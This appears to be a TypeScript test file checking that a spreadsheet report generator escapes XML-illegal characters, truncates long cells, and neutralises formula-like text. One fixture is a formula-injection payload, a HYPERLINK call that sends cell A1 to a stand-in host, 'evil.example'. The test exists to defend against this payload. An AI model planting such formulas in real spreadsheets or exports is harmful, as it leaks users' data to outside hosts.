// control-gaps.xlsx stays valid XML and inert whatever the evidence holds: XML-illegal characters,
// text longer than Excel's cell limit, and text that Excel or a CSV export would run as a formula.
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { SaxesParser } from 'saxes';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildViewModel } from '../../src/render/view-model/build-view-model.ts';
import { EXCEL_CELL_LIMIT, safeCellText } from '../../src/render/xlsx/xlsx-cell.ts';
import { renderXlsx } from '../../src/render/xlsx/render-xlsx.ts';
import type { SignerDescription } from '../../src/sign/signing-identity.ts';
import { syntheticRun } from '../package/synthetic-run.ts';

const signer = { subject: 'CN=Test', issuer: 'CN=Test', fingerprintSha256: 'ab'.repeat(32), selfSigned: true, source: 'development' } as unknown as SignerDescription;
const HOSTILE = 'denied\uFFFE\uFFFF\u0001\u0008\u000B\u001F lone \uD800 and \uDC00 tab\tnl\ncr\r pair \uD83D\uDE00';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const LONG = 'x'.repeat(40_000);

let work: string;
beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'proofline-xlsx-'));
});
afterAll(() => rm(work, { recursive: true, force: true }));

describe('cell text', () => {
  it('replaces XML-illegal characters and keeps tab, newline, CR and surrogate pairs', () => {
    expect(safeCellText(HOSTILE)).toBe('denied\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD lone \uFFFD and \uFFFD tab\tnl\ncr\r pair \uD83D\uDE00');
  });

  it('stores formula-like text with a quote prefix', () => {
    for (const s of ['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\rx']) expect(safeCellText(s)).toBe(`'${s}`);
    expect(safeCellText('a=b')).toBe('a=b');
  });

  it('cuts text to Excel\'s limit with a marker, never splitting a surrogate pair', () => {
    const cut = safeCellText(LONG);
    expect(cut).toHaveLength(EXCEL_CELL_LIMIT);
    expect(cut).toMatch(/\[\.\.\. cut: \d+ more characters; the full text is in results\.json\]$/);
    const emoji = safeCellText('\uD83D\uDE00'.repeat(20_000));
    expect(emoji.length).toBeLessThanOrEqual(EXCEL_CELL_LIMIT);
    expect(emoji).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])/);
  });
});

describe('control-gaps.xlsx with hostile evidence', () => {
  it('is well-formed XML in every part, with every cell inside the limit and no formula', async () => {
    const { results } = syntheticRun({ findings: 20, evidence: 10 });
    results.findings[0] = { ...results.findings[0], status: 'fail', reason: HOSTILE, resource: { ...results.findings[0].resource, id: FORMULA } };
    results.findings[1] = { ...results.findings[1], reason: LONG };
    const failed = results.evidence.findIndex((e) => e.error);
    results.evidence[failed] = { ...results.evidence[failed], error: { name: 'AccessDenied', message: HOSTILE } };
    const file = join(work, 'gaps.xlsx');
    await renderXlsx(file, buildViewModel(results, signer), results);

    const zip = await JSZip.loadAsync(await readFile(file));
    const parts = Object.keys(zip.files).filter((n) => n.endsWith('.xml'));
    expect(parts.some((n) => n.startsWith('xl/worksheets/'))).toBe(true);
    for (const name of parts) {
      const errors: string[] = [];
      const parser = new SaxesParser();
      parser.on('error', (e) => errors.push(`${name}: ${e.message}`));
      parser.write(await zip.files[name].async('string')).close();
      expect(errors).toEqual([]);
    }

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const texts: string[] = [];
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      if (typeof cell.value === 'string') texts.push(cell.value);
    })));
    expect(texts.every((t) => t.length <= EXCEL_CELL_LIMIT)).toBe(true);
    expect(texts).toContain(`'${FORMULA}`);
    expect(texts.some((t) => t.startsWith('denied\uFFFD'))).toBe(true);
    expect(texts.some((t) => t.includes('more characters; the full text is in results.json'))).toBe(true);
  });
});
